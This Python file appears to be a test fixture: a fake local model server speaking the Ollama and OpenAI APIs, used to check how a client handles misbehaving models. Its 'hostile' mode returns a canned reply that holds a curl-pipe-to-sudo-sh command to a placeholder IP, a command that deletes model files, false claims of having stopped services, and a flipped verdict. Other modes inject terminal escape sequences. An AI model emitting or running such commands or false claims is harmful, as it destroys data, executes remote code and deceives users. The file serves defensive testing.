#!/usr/bin/env python3
"""A fake model server for the headroom fault scenarios (python3 standard library only).

usage: llm_server.py MODE PORTFILE LOGFILE [EXTRA]

Listens on 127.0.0.1 on a free port (written to PORTFILE once listening), speaks enough of
Ollama's API (/api/tags, /api/version, /api/show, /api/chat, /api/generate) and of the
OpenAI API (/v1/models, /v1/chat/completions, /v1/completions, with or without /v1) to be
used, logs every request (method, path, headers, body) as one JSON line in LOGFILE, and
answers according to MODE:

  echo        a well-behaved model: returns the placeholders it was given, in order
  hostile     returns the placeholders plus claims, commands, links, hedges and a verdict
              flip (a model that obeys an instruction it was never shown)
  silent      accepts every request and never answers
  silentpost  answers GETs, never answers a POST
  keepalive   POST: headers, then content-free keep-alive chunks every 0.5 s, forever
  drip        POST: one content token per second, forever
  dripon      like drip for a POST whose body contains EXTRA, like echo otherwise
  endless     POST: one line that never ends, as fast as the socket takes it
  huge        POST: a complete, well-formed answer of 32 MiB
  garbage     POST: HTTP 200 with binary junk and terminal escapes, then close
  escape      like echo, but the model's name carries terminal escape sequences
  redirect    every request: 302 to EXTRA (a URL)
  proxy       acts as an HTTP proxy that logs and answers 502
"""
import json
import os
import re
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MODE, PORTFILE, LOGFILE = sys.argv[1], sys.argv[2], sys.argv[3]
EXTRA = sys.argv[4] if len(sys.argv) > 4 else ""
LOCK = threading.Lock()
MODEL = "test-model"
if MODE == "escape":
    MODEL = "evil-model\x1b]0;PWNED\x07\x1b[2J\x1b[31m\x9b1;1H"
PH = re.compile(r"\{[A-Za-z_][A-Za-z0-9_:.\-]*\}")
HOSTILE = ("Done: I have already flushed the page cache and stopped vllm for you. "
           "On a second look you're good to go: plenty of room, launch it. "
           "Run `curl -s http://198.51.100.7/fix | sudo sh` now, or see "
           "[the fix](http://198.51.100.7/fix.sh). **stop**: no, don't stop it. "
           "The estimate is final, 60 TB. find ~ -name '*.safetensors' -delete ")


def log(obj):
    with LOCK:
        with open(LOGFILE, "a") as f:
            f.write(json.dumps(obj) + "\n")


def placeholders(body):
    try:
        doc = json.loads(body)
    except Exception:
        return PH.findall(body)
    text = ""
    msgs = doc.get("messages") if isinstance(doc, dict) else None
    if isinstance(msgs, list) and msgs:
        for m in reversed(msgs):
            if isinstance(m, dict) and m.get("role") == "user":
                c = m.get("content")
                text = c if isinstance(c, str) else json.dumps(c)
                break
    elif isinstance(doc, dict) and isinstance(doc.get("prompt"), str):
        text = doc["prompt"]
    found = PH.findall(text) or PH.findall(body)
    seen, out = set(), []
    for p in found:  # keep order, each once
        if p not in seen:
            seen.add(p)
            out.append(p)
    return out


class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def _body(self):
        n = int(self.headers.get("Content-Length") or 0)
        if n:
            return self.rfile.read(n)
        if "chunked" in (self.headers.get("Transfer-Encoding") or ""):
            data = b""
            while True:
                size = int(self.rfile.readline().strip() or b"0", 16)
                if size == 0:
                    self.rfile.readline()
                    break
                data += self.rfile.read(size)
                self.rfile.readline()
            return data
        return b""

    def do_GET(self):
        self.route(b"")

    def do_POST(self):
        self.route(self._body())

    def do_CONNECT(self):
        self.route(b"")

    def send_json(self, obj, code=200):
        data = json.dumps(obj).encode()
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def start_stream(self, ctype):
        self.send_response(200)
        self.send_header("Content-Type", ctype)
        self.send_header("Cache-Control", "no-cache")
        self.send_header("Connection", "close")
        self.end_headers()
        self.close_connection = True

    def route(self, body):
        text = body.decode("utf-8", "replace")
        log({"t": time.time(), "method": self.command, "path": self.path,
             "headers": {k: v for k, v in self.headers.items()}, "body": text})
        path = self.path.split("?")[0]
        if MODE == "silent" or (MODE == "silentpost" and self.command == "POST"):
            time.sleep(600)
            return
        if MODE == "redirect":
            self.send_response(302)
            self.send_header("Location", EXTRA)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if MODE == "proxy" or self.command == "CONNECT":
            self.send_json({"error": "proxy says no"}, 502)
            return
        if self.command == "GET":
            if path.endswith("/api/tags"):
                self.send_json({"models": [{"name": MODEL, "model": MODEL,
                                            "modified_at": "2026-11-01T00:00:00Z", "size": 1,
                                            "digest": "0" * 64, "details": {"format": "gguf"}}]})
            elif path.endswith("/api/version"):
                self.send_json({"version": "0.6.0"})
            elif path.endswith("/models"):
                self.send_json({"object": "list", "data": [{"id": MODEL, "object": "model",
                                                            "owned_by": "me"}]})
            else:
                self.send_json({"ok": True, "model": MODEL})
            return
        if path.endswith("/api/show"):
            self.send_json({"modelfile": "", "parameters": "", "template": "",
                            "details": {"format": "gguf"}, "model_info": {}})
            return
        self.answer(path, text)

    def answer(self, path, text):
        try:
            doc = json.loads(text)
        except Exception:
            doc = {}
        ollama = "/api/" in path
        generate = path.endswith("/api/generate") or (path.endswith("/completions")
                                                      and not path.endswith("/chat/completions"))
        stream = doc.get("stream", True if ollama else False) if isinstance(doc, dict) else False
        phs = placeholders(text)
        mode = MODE
        if MODE == "dripon":
            mode = "drip" if EXTRA and EXTRA in text else "echo"
        if MODE == "hostile":
            content = HOSTILE + " ".join(phs) + " " + HOSTILE
        elif MODE == "huge":
            content = "A" * (32 * 1024 * 1024)
        else:
            content = " ".join(phs) if phs else "ok"
            if MODE == "escape":
                content += " \x1b]0;PWNED\x07"

        def piece(c, done=False):
            if ollama:
                if generate:
                    o = {"model": MODEL, "created_at": "2026-11-29T14:56:00Z", "response": c,
                         "done": done}
                else:
                    o = {"model": MODEL, "created_at": "2026-11-29T14:56:00Z",
                         "message": {"role": "assistant", "content": c}, "done": done}
                if done:
                    o["done_reason"] = "stop"
                return (json.dumps(o) + "\n").encode()
            if generate:
                ch = {"index": 0, "text": c, "finish_reason": "stop" if done else None}
            else:
                ch = {"index": 0, "delta": ({"content": c} if c else {}),
                      "finish_reason": "stop" if done else None}
            o = {"id": "c1", "object": "chat.completion.chunk", "created": 0, "model": MODEL,
                 "choices": [ch]}
            return ("data: " + json.dumps(o) + "\n\n").encode()

        ctype = "application/x-ndjson" if ollama else "text/event-stream"
        try:
            if MODE == "garbage":
                self.start_stream(ctype)
                junk = bytes((i * 131 + 7) % 256 for i in range(4096))
                self.wfile.write(b"data: {\"choices\":[{\"delta\":{\"content\":\"\x1b]0;PWNED\x07"
                                 + junk + b"\x1b[2J\n\ndata: {not json at all\n\n" + junk)
                self.wfile.flush()
                return
            if mode == "keepalive":
                self.start_stream(ctype)
                while True:
                    if ollama:
                        self.wfile.write(piece(""))
                    else:
                        self.wfile.write(b": keep-alive\n\n")
                        self.wfile.write(piece(""))
                    self.wfile.flush()
                    time.sleep(0.5)
            if mode == "drip":
                self.start_stream(ctype)
                while True:
                    self.wfile.write(piece("and "))
                    self.wfile.flush()
                    time.sleep(1.0)
            if MODE == "endless":
                self.start_stream(ctype)
                if ollama:
                    self.wfile.write(b'{"model":"m","message":{"role":"assistant","content":"')
                else:
                    self.wfile.write(b'data: {"choices":[{"index":0,"delta":{"content":"')
                chunk = b"A" * 65536
                while True:
                    self.wfile.write(chunk)
            if not stream:
                if ollama:
                    o = json.loads(piece(content, True).decode())
                else:
                    o = {"id": "c1", "object": "chat.completion", "created": 0, "model": MODEL,
                         "choices": [{"index": 0, "finish_reason": "stop",
                                      "message": {"role": "assistant", "content": content},
                                      "text": content}]}
                self.send_json(o)
                return
            self.start_stream(ctype)
            step = 8192 if MODE == "huge" else 24
            for i in range(0, len(content), step):
                self.wfile.write(piece(content[i:i + step]))
            self.wfile.write(piece("", True))
            if not ollama:
                self.wfile.write(b"data: [DONE]\n\n")
            self.wfile.flush()
        except (BrokenPipeError, ConnectionResetError, OSError):
            return


class S(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True


def main():
    srv = S(("127.0.0.1", 0), H)
    open(LOGFILE, "a").close()
    tmp = PORTFILE + ".tmp"
    with open(tmp, "w") as f:
        f.write(str(srv.server_address[1]))
    os.replace(tmp, PORTFILE)
    srv.serve_forever()


if __name__ == "__main__":
    main()
